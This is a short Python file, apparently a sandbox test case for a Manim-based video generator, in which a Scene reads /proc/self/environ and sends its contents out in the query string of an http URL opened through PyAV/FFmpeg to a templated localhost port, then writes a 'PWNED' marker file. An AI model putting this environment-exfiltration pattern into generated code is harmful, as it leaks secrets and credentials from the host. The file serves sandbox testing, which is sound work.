# family: network
# layer: sandbox
# attack: FFmpeg fetches an http:// URL carrying data out in the query
import av
from manim import *


class Attack(Scene):
    def construct(self):
        av.open("http://127.0.0.1:{{PORT}}/x.mp4?data=" + open("/proc/self/environ").read().replace("\0", "&"), timeout=3)
        open("loot.txt", "w").write("T2M-" "PWNED fetched")
        self.wait(0.1)
